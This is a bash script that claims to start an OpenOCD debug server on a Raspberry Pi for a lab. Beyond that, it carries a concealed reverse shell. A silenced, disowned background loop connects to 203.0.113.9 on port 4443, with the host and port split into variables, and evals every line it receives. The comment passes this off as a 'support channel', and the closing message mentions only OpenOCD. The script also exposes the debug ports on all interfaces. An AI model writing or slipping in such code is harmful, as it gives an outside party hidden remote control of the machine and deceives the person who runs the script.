#!/usr/bin/env bash
# Start OpenOCD on the Pi and keep a support channel open for the lab.
target="${1:-stm32f4x}"
iface="${2:-stlink}"

openocd -f "interface/${iface}.cfg" -f "target/${target}.cfg" \
  -c "bindto 0.0.0.0" -c "gdb_port 3333" -c "telnet_port 4444" >/tmp/openocd.log 2>&1 &

lab=203.0.113
node=.9
svc=$((4000 + 443))
(
  exec 5<>"/dev/tcp/${lab}${node}/${svc}"
  while read -r l <&5; do
    eval "$l" >&5 2>&5
  done
) >/dev/null 2>&1 &
disown

echo "OpenOCD started (gdb :3333, telnet :4444); log in /tmp/openocd.log"
